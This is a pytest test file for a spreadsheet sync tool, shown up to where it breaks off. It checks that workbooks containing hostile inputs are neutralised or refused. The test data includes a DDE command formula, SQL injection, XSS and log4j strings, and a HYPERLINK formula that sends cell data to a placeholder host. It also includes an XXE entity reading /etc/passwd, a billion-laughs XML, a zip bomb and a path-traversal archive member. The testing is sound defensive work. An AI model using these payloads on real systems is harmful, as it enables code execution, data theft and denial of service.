"""The table of bad inputs, on a real team's files by the real command line; ids are the numbers of its rows.

Each case types or damages something, syncs, looks, and syncs once more: then no byte may change.
"""

from __future__ import annotations

import json
import random
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import spoiling
from needing import OFFICE, needs
from office import open_and_dump
from spoiling import mentions, parts, put_formula, put_xml
from team_stand import ANA, BEN, MARA, NAMES, Team, put_csv, team

from sheetsales_workbooks.csv_file import read_csv
from sheetsales_workbooks.host import CONFLICTS_SHEET, LOG_FIRST_ROW
from sheetsales_workbooks.patch import patch_markers

__all__ = ["team"]

Results = dict[str, dict[str, Any]]


def settled(team: Team) -> None:
    """Assert that another sync changes no byte, and that the records follow from the history."""
    before = team.bytes()
    team.sync()
    assert team.bytes() == before
    assert team.ok("verify")["ok"]


def others(team: Team, who: str) -> list[Path]:
    """Give the workbooks of everybody else."""
    return [team.book(other) for other in NAMES if other != who]


def notes(team: Team, who: str, tab: str) -> dict[str, str]:
    """Give the notes of a tab, as another program reads them."""
    sheet = openpyxl.load_workbook(team.book(who))[tab]
    return {cell.coordinate: cell.comment.text for row in sheet for cell in row if cell.comment is not None}


def lines_of_conflicts(team: Team, who: str) -> list[str]:
    """Give the lines of the Conflicts tab as text, as another program reads them."""
    sheet = openpyxl.load_workbook(team.book(who))[CONFLICTS_SHEET]
    rows = sheet.iter_rows(min_row=LOG_FIRST_ROW, values_only=True)
    return [" | ".join(str(cell) for cell in row if cell is not None) for row in rows if any(c is not None for c in row)]


# ── values that are accepted ─────────────────────────────────────────────────────────────────────

TEXTS = {
    "1 formula as text": "=1+1",
    "2 command as text": "=cmd|' /C calc'!A0",
    "3 plus": "+1+1",
    "3 minus": "-1+1",
    "3 at": "@SUM(1)",
    "5 minus five": "-5",
    "6 tab": "\t=1",
    "6 line feed": "\n=1",
    "7 full width": "＝1+1",
    "40 slash": "1/2",
    "40 month": "MAR1",
    "40 exponent": "1e5",
    "40 truth": "TRUE",
    "40 hexadecimal": "0x10",
    "42 not a number": "NaN",
    "44 quote": "Robert'); DROP TABLE leads;--",
    "45 markup": "<img src=x onerror=alert(1)>",
    "46 format": "%s %(x)s {0} ${jndi:ldap://x}",
}
GUARDED = tuple("=+-@\t\n＝＋－＠")


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_text_stays_text_everywhere(team: Team, text: str) -> None:
    team.type(ANA, "leads", "L-1", contact_name=text, phone=text)
    team.type(ANA, "opportunities", "O-1", name=text, next_step=text)
    assert team.sync()["Ana.xlsx"]["accepted"] == 4
    lead, deal = team.records("leads")["L-1"], team.records("opportunities")["O-1"]
    assert (lead["contact_name"], lead["phone"], deal["name"], deal["next_step"]) == (text, text, text, text)
    for who in (ANA, MARA):
        row = team.row(who, "opportunities", "O-1").cells
        assert (row["name"], row["next_step"]) == (text, text), who
        xml = parts(team.book(who))[spoiling.sheet_part(team.book(who), "Opportunities")].decode()
        cell = re.search(rf'<c r="{spoiling.address(team, who, "opportunities", "O-1", "next_step")}"[^>]*>.*?</c>', xml, re.S)
        assert cell is not None and "<f>" not in cell[0] and re.search(r' t="(s|inlineStr|str)"', cell[0])
    assert not mentions(team.book(BEN), text) or len(text) < 8
    out = team.run("export", "opportunities").out
    file = read_csv(out.encode())
    exported = next(r for r in file.rows if r.cells[file.headers.index("external_id")] == "O-1")
    assert exported.cells[file.headers.index("next_step")] == text
    assert ("\"'" + text.replace('"', '""') in out) == text.startswith(GUARDED)
    settled(team)


@needs(OFFICE)
@pytest.mark.slow
@pytest.mark.parametrize("text", ["=1+1", "=cmd|' /C calc'!A0"], ids=["1", "2"])
def test_libreoffice_sees_text_and_no_formula(team: Team, text: str) -> None:
    team.type(ANA, "opportunities", "O-1", next_step=text)
    team.sync()
    place = spoiling.address(team, MARA, "opportunities", "O-1", "next_step")
    shown = open_and_dump(team.book(MARA)).sheets["Opportunities"]
    assert shown.values[place] == text and place not in shown.formulas


def test_6_a_carriage_return_becomes_a_line_feed(team: Team) -> None:
    place_text = "a_x000D_\n=1"
    put_xml(team, ANA, "leads", "L-1", "title", "inlineStr", f'<is><t xml:space="preserve">{place_text}</t></is>')
    team.sync()
    assert team.records("leads")["L-1"]["title"] == "a\n=1"
    settled(team)


NUMBERS: dict[str, tuple[str, str, str, str, object, object]] = {
    "4 minus five": (ANA, "opportunities", "O-1", "value_to_customer", -5.0, "-5.00"),
    "10 formula with a value": (ANA, "opportunities", "O-1", "amount", ("6000*2+1", "12001"), "12001.00"),
    "41 percent as a number": (BEN, "territory_accounts", "T-1", "margin", 0.35, 0.35),
    "41 percent as text": (BEN, "territory_accounts", "T-1", "margin", "35%", 0.35),
    "42 a third decimal digit of a float": (ANA, "opportunities", "O-1", "amount", 0.1 + 0.2, "0.30"),
    "42 minus zero": (ANA, "opportunities", "O-1", "amount", -0.0, "0.00"),
    "42 nearly nothing": (ANA, "opportunities", "O-1", "amount", 1e-320, "0.00"),
}


@pytest.mark.parametrize(("who", "table", "key", "column", "typed", "kept"), NUMBERS.values(), ids=NUMBERS)
def test_numbers_are_taken_exactly(team: Team, who: str, table: str, key: str, column: str, typed: object, kept: object) -> None:
    if isinstance(typed, tuple):
        put_formula(team, who, table, key, column, *typed)
    else:
        team.type(who, table, key, **{column: typed})
    team.sync()
    assert team.ok("rejected")["rejected"] == []
    assert team.records(table)[key][column] == kept
    sheet = openpyxl.load_workbook(team.book(who))[team.tab(who, table).sheet]
    cell = sheet[spoiling.address(team, who, table, key, column)]
    if isinstance(typed, tuple):
        assert cell.value == f"={typed[0]}"
        assert not mentions(team.book(MARA), typed[0])
    file = read_csv(team.run("export", table).out.encode())
    assert "'-5" not in team.run("export", table).out and len(file.rows) == len(team.records(table))
    settled(team)


@pytest.mark.parametrize("again", [12000.000000000002, 12000, "12000.00"], ids=["float", "integer", "text"])
def test_42_the_same_number_in_other_words_is_no_edit(team: Team, again: object) -> None:
    seq = team.seq()
    team.type(ANA, "opportunities", "O-1", amount=again)
    synced = team.sync()["Ana.xlsx"]
    assert (synced["accepted"], synced["conflicts"], team.seq()) == (0, 0, seq)
    settled(team)


def test_39_a_zip_code_keeps_its_zeros(team: Team) -> None:
    style = spoiling.number_format(team, ANA, "00000")
    put_xml(team, ANA, "accounts", "A-2", "postcode", "", "<v>123</v>", style)
    team.sync()
    assert team.records("accounts")["A-2"]["postcode"] == "00123"
    assert team.row(BEN, "accounts", "A-2").cells["postcode"] == "00123"
    settled(team)


@needs(OFFICE)
@pytest.mark.slow
def test_10_and_39_as_libreoffice_sees_them(team: Team) -> None:
    put_formula(team, ANA, "opportunities", "O-1", "amount", "6000*2+1", "12001")
    style = spoiling.number_format(team, ANA, "00000")
    put_xml(team, ANA, "accounts", "A-2", "postcode", "", "<v>123</v>", style)
    team.sync()
    amount = spoiling.address(team, MARA, "opportunities", "O-1", "amount")
    mara, ana = open_and_dump(team.book(MARA)), open_and_dump(team.book(ANA))
    assert mara.sheets["Opportunities"].values[amount] == 12001 and amount not in mara.sheets["Opportunities"].formulas
    mine = spoiling.address(team, ANA, "opportunities", "O-1", "amount")
    assert ana.sheets["Opportunities"].formulas[mine] == "=6000*2+1"
    assert mara.sheets["Accounts"].values[spoiling.address(team, MARA, "accounts", "A-2", "postcode")] == "00123"
    assert not mara.errors and not ana.errors


# ── cells that are turned down ───────────────────────────────────────────────────────────────────

KEY = json.dumps(
    {"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\nMIIsecretsecret\n-----END PRIVATE KEY-----"}
)
TURNED_DOWN: dict[str, tuple[str, str, str, str, object, str]] = {
    "8 link formula": (ANA, "leads", "L-1", "title", ('HYPERLINK("http://x.example/?"&amp;A1)', "7"), "data column"),
    "11 not calculated": (ANA, "opportunities", "O-1", "amount", ("6000*2+1", None), "not calculated yet"),
    "12 reference error": (ANA, "opportunities", "O-1", "amount", ("e", "<v>#REF!</v>"), "#REF!"),
    "12 not available": (ANA, "leads", "L-1", "title", ("e", "<f>NA()</f><v>#N/A</v>"), "#N/A"),
    "12 division by zero": (ANA, "opportunities", "O-1", "amount", ("e", "<f>1/0</f><v>#DIV/0!</v>"), "#DIV/0!"),
    "41 bare 35 percent": (BEN, "territory_accounts", "T-1", "margin", 35, "35"),
    "42 not a number": (ANA, "opportunities", "O-1", "amount", "NaN", "NaN"),
    "42 a number beyond all money": (ANA, "opportunities", "O-1", "amount", 1e308, ""),
    "43 32,768 characters": (ANA, "leads", "L-1", "note", "x" * 32_768, "32,767"),
    "43 100,000 characters": (ANA, "leads", "L-1", "note", "x" * 100_000, ""),
    "51 private key": (ANA, "leads", "L-1", "note", KEY, "private key"),
}


@pytest.mark.parametrize(("who", "table", "key", "column", "typed", "reason"), TURNED_DOWN.values(), ids=TURNED_DOWN)
def test_a_cell_is_turned_down_with_its_reason(
    team: Team, who: str, table: str, key: str, column: str, typed: Any, reason: str
) -> None:
    before = team.records(table)[key][column]
    if not isinstance(typed, tuple):
        raw = f'<is><t xml:space="preserve">{spoiling.escape(typed)}</t></is>' if isinstance(typed, str) else f"<v>{typed!r}</v>"
        put_xml(team, who, table, key, column, "inlineStr" if isinstance(typed, str) else "", raw)
    elif typed[0] == "e":
        put_xml(team, who, table, key, column, *typed)
    else:
        put_formula(team, who, table, key, column, typed[0].replace("&amp;", "&"), typed[1])
    place = spoiling.address(team, who, table, key, column)
    xml = parts(team.book(who))[spoiling.sheet_part(team.book(who), team.tab(who, table).sheet)].decode()
    cell = re.search(rf'<c r="{place}"[^>]*>(.*?)</c>', xml, re.S)
    assert cell is not None
    result = team.sync()[team.book(who).name]
    assert (result["rejected"], result["accepted"]) == (1, 0)
    # the store
    (row,) = team.ok("rejected")["rejected"]
    assert (row["column"], row["cell"]) == (column, place) and reason in row["reason"] and len(row["value"]) <= 200
    assert team.records(table)[key][column] == before
    # the author's sheet: the cell as typed, its note, its line
    tab = team.tab(who, table).sheet
    after = parts(team.book(who))[spoiling.sheet_part(team.book(who), tab)].decode()
    now = re.search(rf'<c r="{place}"[^>]*>(.*?)</c>', after, re.S)
    assert now is not None and now[1] == cell[1]
    assert "Not accepted" in notes(team, who, tab)[place]
    assert any(row["reason"] in line for line in lines_of_conflicts(team, who))
    # nobody else's
    for book in others(team, who):
        assert not mentions(book, row["reason"]) and not (isinstance(typed, str) and mentions(book, typed))
    if typed == KEY:
        assert not spoiling.store_mentions(team, "MIIsecret") and "MIIsecret" not in json.dumps(row)
        assert "MIIsecret" not in json.dumps(team.ok("status")) + team.run("check", team.book(ANA)).out
    settled(team)


def test_a_conflict_is_shown_to_its_author_and_to_nobody_else(team: Team) -> None:
    team.type(ANA, "opportunities", "O-1", next_step="Ana says call")
    team.type(MARA, "opportunities", "O-1", next_step="Mara says visit")
    assert team.sync()["Mara.xlsx"]["conflicts"] == 1
    assert team.records("opportunities")["O-1"]["next_step"] == "Ana says call"
    place = spoiling.address(team, MARA, "opportunities", "O-1", "next_step")
    assert team.row(MARA, "opportunities", "O-1").cells["next_step"] == "Ana says call"
    note = notes(team, MARA, "Opportunities")[place]
    assert "Mara says visit" in note and "Ana says call" in note
    (line,) = lines_of_conflicts(team, MARA)
    assert "Mara says visit" in line and "Ana says call" in line
    assert not any(mentions(book, "Mara says visit") for book in others(team, MARA))
    settled(team)
    team.type(MARA, "opportunities", "O-1", next_step="Both: call, then visit")
    team.sync()
    assert team.ok("conflicts")["conflicts"] == [] and lines_of_conflicts(team, MARA) == []
    assert team.row(ANA, "opportunities", "O-1").cells["next_step"] == "Both: call, then visit"
    settled(team)


def test_42_a_number_of_more_digits_than_a_sheet_keeps(team: Team) -> None:
    put_xml(team, ANA, "opportunities", "O-1", "amount", "", "<v>1234567890123.4567</v>")
    team.sync()
    assert team.records("opportunities")["O-1"]["amount"] in ("12000.00", "1234567890123.46")
    settled(team)


# ── formulas, links and parts of the rep's own ───────────────────────────────────────────────────

FORMULAS = {
    "9 importxml": 'IMPORTXML("http://x.example","//a")',
    "9 webservice": '_xlfn.WEBSERVICE("http://x.example")',
    "9 image": '_xlfn.IMAGE("http://x.example/a.png")',
    "13 other workbook": "[1]Sheet1!A1",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS)
def test_a_formula_of_the_reps_own_stays_in_its_book(team: Team, formula: str) -> None:
    row = team.row(ANA, "leads", "L-1").row
    place = spoiling.own_column(team, ANA, "leads", row, f"><f>{spoiling.escape(formula)}</f><v>7</v>")
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>'
    spoiling.rebuild(team.book(ANA), {}, {"xl/externalLinks/externalLink1.xml": link})
    team.type(ANA, "leads", "L-1", title="Owner")
    assert team.sync()["Ana.xlsx"]["accepted"] == 1
    after = parts(team.book(ANA))
    assert after["xl/externalLinks/externalLink1.xml"] == link
    assert f'<c r="{place}"><f>{spoiling.escape(formula)}</f>' in after[spoiling.sheet_part(team.book(ANA), "Leads")].decode()
    assert not any(mentions(book, formula) for book in others(team, ANA))
    assert not spoiling.store_mentions(team, formula)
    settled(team)


def test_14_macros_stay_byte_for_byte(team: Team) -> None:
    macros = random.Random(14).randbytes(9000)
    spoiling.rebuild(team.book(ANA), {}, {"xl/vbaProject.bin": macros})
    path = team.book(ANA).rename(team.root / "books" / "Ana.xlsm")
    team.sync()
    team.type(MARA, "opportunities", "O-1", next_step="Call")
    assert team.sync()["Ana.xlsm"]["written"] > 0
    assert parts(path)["xl/vbaProject.bin"] == macros
    settled(team)


def test_47_every_other_part_stays_byte_for_byte(team: Team) -> None:
    extra = {
        "xl/media/image9.png": b"\x89PNG picture", "xl/drawings/drawing9.xml": b"<drawing/>", "xl/charts/chart9.xml": b"<chart/>",
        "xl/slicers/slicer9.xml": b"<slicers/>", "xl/threadedComments/threadedComment9.xml": b"<comments/>",
    }  # fmt: skip
    spoiling.rebuild(team.book(ANA), {}, extra)
    team.type(ANA, "leads", "L-1", title="Owner", email="no address")
    before = parts(team.book(ANA))
    team.sync()
    after = parts(team.book(ANA))
    touched = {spoiling.sheet_part(team.book(ANA), tab) for tab in ("Leads", "Start", CONFLICTS_SHEET, "_ss")}
    differing = {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)}
    notes_and_settings = re.compile(
        r"docProps/custom\.xml|xl/(workbook|styles)\.xml|xl/comments\d+\.xml|xl/drawings/vmlDrawing\d+\.vml|\[Content_Types\]\.xml"
        r"|xl/worksheets/_rels/.*|xl/calcChain\.xml"
    )
    assert {name for name in differing - touched if not notes_and_settings.fullmatch(name)} == set()
    rules = [
        re.findall(r"<(?:conditionalFormatting|dataValidation) .*?>", xml[next(iter(touched))].decode())
        for xml in (before, after)
    ]
    assert rules[0] == rules[1]
    settled(team)


# ── files that are refused ───────────────────────────────────────────────────────────────────────


def ole(words: str) -> Callable[[bytes], bytes]:
    """Make an OLE container with a stream of that name."""
    return lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + words.encode("utf-16-le") + b"\0\0"


def zipped(name: str, content: bytes) -> Callable[[bytes], bytes]:
    """Add a part to the book."""

    def spoil(data: bytes) -> bytes:
        import io
        import zipfile

        out = io.BytesIO(data)
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed:
            packed.writestr(name, content)
        return out.getvalue()

    return spoil


def only(name: str, content: bytes) -> Callable[[bytes], bytes]:
    """Make another zip file of one part."""

    def spoil(_: bytes) -> bytes:
        import io
        import zipfile

        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as packed:
            packed.writestr(name, content)
        return out.getvalue()

    return spoil


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
REFUSED: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "15 xls": (ole("Workbook"), ".xls"),
    "15 xlsb": (only("xl/workbook.bin", b"1"), ".xlsb"),
    "15 ods": (only("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ".ods"),
    "15 text": (lambda _: b"name;amount\n", "no .xlsx"),
    "16 encrypted": (ole("EncryptedPackage"), "password protected"),
    "17 zip bomb": (zipped("xl/media/big.xml", b"0" * 200_000_000), "bomb"),
    "18 billion laughs": (zipped("xl/laughs.xml", LAUGHS), "document type"),
    "19 external entity": (zipped("xl/outside.xml", OUTSIDE), "document type"),
    "20 member that climbs out": (zipped("../../evil.txt", b"x"), "evil"),
    "24 no bytes": (lambda _: b"", "tried again"),
    "24 half-written": (lambda data: data[: len(data) // 2], "incomplete"),
    "24 cut by a few bytes": (lambda data: data[:-40], "incomplete"),
    "27 generation never given out": (lambda data: patch_markers(data, {"generation": 99}), "never given out"),
    "27 foreign workbook": (lambda data: patch_markers(data, {"workbook_id": "WBX"}), "another installation"),
}


@pytest.mark.parametrize(("spoil", "words"), REFUSED.values(), ids=REFUSED)
def test_a_file_is_refused_and_nothing_else_happens(team: Team, spoil: Callable[[bytes], bytes], words: str) -> None:
    team.type(ANA, "leads", "L-1", title="Owner")
    good = team.book(ANA).read_bytes()
    bad = spoil(good)
    team.book(ANA).write_bytes(bad)
    seq = team.seq()
    alone = team.run("sync", team.book(ANA), "--json")
    assert alone.code == 3 and words in alone.out["books"][0]["message"]
    assert "passwd" not in json.dumps(alone.out) and "root:" not in json.dumps(alone.out)
    for command in (("check", team.book(ANA)), ("run", "check", team.book(ANA))):
        said = team.run(*command, "--json")
        assert said.code == 3 and words in said.out["error"]["message"]
    team.type(BEN, "leads", "L-3", title="Buyer")
    synced = team.sync()
    assert synced["Ana.xlsx"]["state"] == "refused" and synced["Ben.xlsx"]["accepted"] == 1
    assert team.seq() == seq + 1 and team.book(ANA).read_bytes() == bad
    assert {Path(b["path"]).name: b["state"] for b in team.ok("status")["books"]}["Ana.xlsx"] == "refused"
    assert not list(team.root.rglob("evil*"))
    settled(team)
    team.book(ANA).write_bytes(good)
    assert team.sync()["Ana.xlsx"]["accepted"] == 1
    settled(team)


# ── odd but readable ─────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("reference", ["A1:XFD1048576", "A1:B2"], ids=["21 far too large", "22 far too small"])
def test_the_declared_size_of_a_sheet_counts_for_nothing(team: Team, reference: str) -> None:
    team.type(ANA, "leads", "L-2", title="Owner")
    spoiling.in_sheet(team, ANA, "Leads", lambda xml: re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{reference}"', xml))
    assert len([r for r in team.tab(ANA, "leads").rows if r.cells["external_id"]]) == 2
    assert team.sync()["Ana.xlsx"]["accepted"] == 1
    settled(team)


@pytest.mark.slow
def test_23_a_million_blank_rows_with_a_format_are_no_records(team: Team) -> None:
    blank = "".join(f'<row r="{n}"><c r="A{n}" s="1"/></row>' for n in range(2000, 900_000))
    spoiling.in_sheet(team, ANA, "Leads", lambda xml: xml.replace("</sheetData>", blank + "</sheetData>"))
    team.type(MARA, "opportunities", "O-1", next_step="Call")
    synced = team.sync()
    assert synced["Ana.xlsx"]["state"] == "synced" and team.records("leads").keys() == {"L-1", "L-2", "L-3"}
    assert team.row(ANA, "opportunities", "O-1").cells["next_step"] == "Call"


def test_25_a_file_or_folder_that_is_gone_deletes_nothing(team: Team) -> None:
    records = team.records("opportunities")
    away = team.book(ANA).rename(team.root / "Ana.away")
    assert team.sync()["Ana.xlsx"]["state"] == "missing"
    assert team.run("sync", "books/Ana.xlsx").code == 3
    (team.root / "books").rename(team.root / "unmounted")
    (team.root / "books").mkdir()
    said = team.run("sync", "--json")
    assert said.code == 3 and {b["state"] for b in said.out["books"]} == {"missing"}
    assert {b["state"] for b in team.ok("status")["books"]} == {"missing"}
    assert team.records("opportunities") == records
    (team.root / "books").rmdir()
    (team.root / "unmounted").rename(team.root / "books")
    away.rename(team.book(ANA))
    assert {b["state"] for b in team.sync().values()} == {"unchanged"}


def test_26_a_workbook_restored_from_a_backup_takes_nothing_back(team: Team) -> None:
    old = team.book(ANA).read_bytes()
    team.type(MARA, "opportunities", "O-1", next_step="Call Ida")
    team.type(MARA, "opportunities", "O-2", amount=700)
    team.sync()
    team.type(ANA, "opportunities", "O-1", amount=13000)
    team.sync()
    team.book(ANA).write_bytes(old)
    team.type(ANA, "opportunities", "O-2", next_step="Typed into the old one")
    synced = team.sync()["Ana.xlsx"]
    assert (synced["accepted"], synced["conflicts"]) == (1, 0)
    deals = team.records("opportunities")
    assert (deals["O-1"]["amount"], deals["O-1"]["next_step"]) == ("13000.00", "Call Ida")
    assert (deals["O-2"]["amount"], deals["O-2"]["next_step"]) == ("700.00", "Typed into the old one")
    assert team.row(ANA, "opportunities", "O-1").cells["amount"] == 13000
    settled(team)


@pytest.mark.parametrize("lock", ["~$Ana.xlsx", ".~lock.Ana.xlsx#"], ids=["29 Excel", "29 LibreOffice"])
def test_29_an_open_workbook_is_read_but_not_written(team: Team, lock: str) -> None:
    path = team.root / "books" / lock
    path.write_bytes(b"\x03Ida Roth" + b"\0" * 100 if lock[0] == "~" else b",Ida Roth,pc,24.11.2026 10:00,file:///x;")
    team.type(ANA, "leads", "L-1", title="Owner")
    team.type(MARA, "opportunities", "O-2", next_step="Call")
    before = team.book(ANA).read_bytes()
    synced = team.sync()["Ana.xlsx"]
    assert synced["state"] == "deferred" and "Ida Roth" in synced["message"] and team.book(ANA).read_bytes() == before
    assert team.records("leads")["L-1"]["title"] == "Owner"
    (status,) = (b for b in team.ok("status")["books"] if b["owner"] == ANA)
    assert status["state"] == "deferred" and "Ida Roth" in status["message"]
    team.sync()
    path.unlink()
    assert team.sync()["Ana.xlsx"]["state"] == "synced"
    assert team.row(ANA, "opportunities", "O-2").cells["next_step"] == "Call"
    assert [h["new"] for h in team.history() if h["column"] == "title" and h["new"] == "Owner"] == ["Owner"]
    settled(team)


@pytest.mark.parametrize("where", ["31 a file", "31 a folder"])
def test_31_a_link_is_not_followed(team: Team, tmp_path: Path, where: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    if where == "31 a file":
        team.book(ANA).rename(outside / "Ana.xlsx")
        team.book(ANA).symlink_to(outside / "Ana.xlsx")
    else:
        (team.root / "books").rename(outside / "books")
        (team.root / "books").symlink_to(outside / "books")
    before = {p: p.read_bytes() for p in outside.rglob("*.xlsx")}
    said = team.run("sync", *([] if where == "31 a folder" else [team.root / "books" / "Ana.xlsx"]), "--json")
    assert said.code == 3 and {b["state"] for b in said.out["books"]} <= {"refused"}
    assert {p: p.read_bytes() for p in outside.rglob("*.xlsx")} == before
    team.book(BEN).parent.parent.joinpath("passwd.xlsx").symlink_to("/etc/passwd")
    for command in (("check", "passwd.xlsx"), ("import", "leads", "passwd.xlsx"), ("book", "adopt", "passwd.xlsx", "--merge")):
        refused = team.run(*command, "--json")
        assert refused.code == 3 and "root:" not in json.dumps(refused.out)


# ── rows, ids, headers ───────────────────────────────────────────────────────────────────────────


def test_32_of_pasted_rows_the_one_that_did_not_change_keeps_the_id(team: Team) -> None:
    row = team.row(ANA, "opportunities", "O-1")
    spoiling.put_row(team, ANA, "opportunities", row, identity=row.id)
    at = team.waiting(ANA, "opportunities").row - 1
    tab = team.tab(ANA, "opportunities")
    team.put(ANA, tab.sheet, at, tab.columns["name"], "Pasted")
    team.sync()
    deals = team.records("opportunities")
    assert deals["O-1"]["id"] == row.id and deals["O-1"]["name"] == "Pumps for Alder" and len(deals) == 4
    assert "Pasted" in {d["name"] for d in deals.values()}
    ids = [r.id for r in team.tab(ANA, "opportunities").rows if r.cells["name"]]
    assert len(ids) == len(set(ids)) == 3
    settled(team)


def test_33_an_id_typed_over_with_another_swaps_no_records(team: Team) -> None:
    tab = team.tab(ANA, "opportunities")
    first, second = team.row(ANA, "opportunities", "O-1"), team.row(ANA, "opportunities", "O-2")
    before = team.records("opportunities")
    team.put(ANA, tab.sheet, first.row, tab.id_column, second.id)
    team.sync()
    after = team.records("opportunities")
    for key in ("O-1", "O-2"):
        assert {k: v for k, v in after[key].items() if k not in ("version", "updated_at")} == {
            k: v for k, v in before[key].items() if k not in ("version", "updated_at")
        }
    settled(team)


def test_34_the_id_of_somebody_elses_record_is_not_yours(team: Team) -> None:
    foreign = team.row(BEN, "opportunities", "O-3")
    spoiling.put_row(team, ANA, "opportunities", team.row(ANA, "opportunities", "O-1"), identity=foreign.id)
    before = team.records("opportunities")["O-3"]
    team.sync()
    assert team.records("opportunities")["O-3"] == before
    rows = team.ok("rejected")["rejected"]
    assert any("not yours" in r["reason"] for r in rows), rows
    for book in others(team, ANA):
        assert not mentions(book, "not yours")
    settled(team)


def test_35_rows_that_are_gone_are_never_deleted(team: Team) -> None:
    more = [(f"M-{n}", f"More {n}", ANA, "Alder Mills", n + 1, "Qualify") for n in range(6)]
    put_csv(team.root / "more.csv", [("external_id", "name", "owner", "account", "amount", "stage"), *more])
    team.ok("import", "opportunities", "more.csv")
    team.sync()
    before = team.records("opportunities")
    for key in ("O-2", "M-1", "M-2", "M-5"):
        spoiling.clear_row(team, ANA, "opportunities", key)
    team.type(ANA, "opportunities", "O-1", amount=13000)
    synced = team.sync()["Ana.xlsx"]
    assert synced["state"] == "paused" and synced["message"] and synced["accepted"] == 1
    assert team.records("opportunities").keys() == before.keys()
    assert team.records("opportunities")["O-1"]["amount"] == "13000.00"
    settled(team)
    assert {b["state"] for b in team.ok("sync", "--resume", team.book(ANA))["books"]} == {"synced"}
    assert team.row(ANA, "opportunities", "O-2").cells["amount"] == 640.5
    settled(team)


HEADERS: dict[str, Callable[[str, int], str]] = {
    "36 deleted": lambda xml, row: re.sub(rf'<row r="{row}"[^>]*>.*?</row>', "", xml),
    "36 overwritten": lambda xml, row: re.sub(rf'(<row r="{row}"[^>]*>).*?</row>', r"\1</row>", xml),
}


@pytest.mark.parametrize("damage", HEADERS.values(), ids=HEADERS)
def test_36_without_a_header_row_a_tab_waits_and_the_others_run(team: Team, damage: Callable[[str, int], str]) -> None:
    row = team.tab(ANA, "opportunities").header_row
    before = team.records("opportunities")
    team.type(ANA, "leads", "L-1", title="Owner")
    team.type(ANA, "opportunities", "O-1", amount=1)
    good = team.book(ANA).read_bytes()
    spoiling.in_sheet(team, ANA, "Opportunities", lambda xml: damage(xml, row))
    synced = team.sync()["Ana.xlsx"]
    assert synced["state"] == "paused" and re.search(r"Opportunities|[A-Z]+\d", synced["message"])
    assert team.records("opportunities") == before and team.records("leads")["L-1"]["title"] == "Owner"
    settled(team)
    team.book(ANA).write_bytes(good)
    assert team.sync()["Ana.xlsx"]["state"] == "synced" and team.records("opportunities")["O-1"]["amount"] == "1.00"
    settled(team)


def test_36_a_header_row_that_was_moved_is_found(team: Team) -> None:
    book = openpyxl.load_workbook(team.book(ANA))
    book["Opportunities"].delete_rows(2, 2)
    book.save(team.book(ANA))
    team.type(ANA, "opportunities", "O-1", next_step="Call")
    synced = team.sync()["Ana.xlsx"]
    assert team.records("opportunities")["O-1"]["next_step"] == "Call" and "A3" in synced["message"]
    assert [r.cells["external_id"] for r in team.tab(ANA, "opportunities").rows][:2] == ["O-1", "O-2"]
    settled(team)


def test_36_a_header_row_pasted_among_the_rows_is_no_record(team: Team) -> None:
    tab = team.tab(ANA, "opportunities")
    sheet = openpyxl.load_workbook(team.book(ANA))["Opportunities"]
    row = team.waiting(ANA, "opportunities").row
    heads = [(c, sheet.cell(tab.header_row, c).value) for n, c in tab.columns.items() if n in spoiling.INPUTS["opportunities"]]
    for column, text in heads:
        team.put(ANA, tab.sheet, row, column, text)
    team.type(ANA, "opportunities", "O-1", next_step="Call")
    synced = team.sync()["Ana.xlsx"]
    assert synced["rejected"] > 0 and synced["accepted"] == 1
    assert team.records("opportunities").keys() == {"O-1", "O-2", "O-3"}
    settled(team)


def test_37_a_column_may_be_renamed(team: Team) -> None:
    tab = team.tab(ANA, "opportunities")
    team.put(ANA, tab.sheet, tab.header_row, tab.columns["next_step"], "Mein nächster Schritt")
    team.type(ANA, "opportunities", "O-1", next_step="Call")
    assert team.sync()["Ana.xlsx"]["accepted"] == 1
    assert team.records("opportunities")["O-1"]["next_step"] == "Call"
    settled(team)


def test_37_columns_may_change_places_or_go(team: Team) -> None:
    team.type(ANA, "opportunities", "O-1", next_step="Call", business_problem="Old pumps")
    team.sync()
    book = openpyxl.load_workbook(team.book(ANA))
    sheet = book["Opportunities"]
    tab = team.tab(ANA, "opportunities")
    one, other, gone = (tab.columns[n] for n in ("next_step", "lost_to", "business_problem"))
    for row in range(tab.header_row, sheet.max_row + 1):
        left, right = sheet.cell(row, one).value, sheet.cell(row, other).value
        sheet.cell(row, one).value, sheet.cell(row, other).value = right, left
        sheet.cell(row, gone).value = None
    book.save(team.book(ANA))
    team.sync()
    deal = team.records("opportunities")["O-1"]
    assert (deal["next_step"], deal["business_problem"], deal["lost_to"]) == ("Call", "Old pumps", None)
    settled(team)


def test_38_of_merged_cells_the_first_one_counts(team: Team) -> None:
    places = [spoiling.address(team, ANA, "leads", key, "title") for key in ("L-1", "L-2")]
    team.type(ANA, "leads", "L-1", title="Owner")

    def merge(xml: str) -> str:
        return re.sub(r"(</sheetData>(?:<(?:sheetProtection|autoFilter)[^>]*?(?:/>|>.*?</autoFilter>))*)",
                      rf'\1<mergeCells count="1"><mergeCell ref="{places[0]}:{places[1]}"/></mergeCells>', xml, count=1)  # fmt: skip

    spoiling.in_sheet(team, ANA, "Leads", merge)
    synced = team.sync()["Ana.xlsx"]
    leads = team.records("leads")
    assert leads["L-1"]["title"] == "Owner" and leads["L-2"]["title"] is None and "merged" in synced["message"].lower()
    settled(team)


# ── names ────────────────────────────────────────────────────────────────────────────────────────

NASTY = "Robert'); DROP TABLE leads;--"


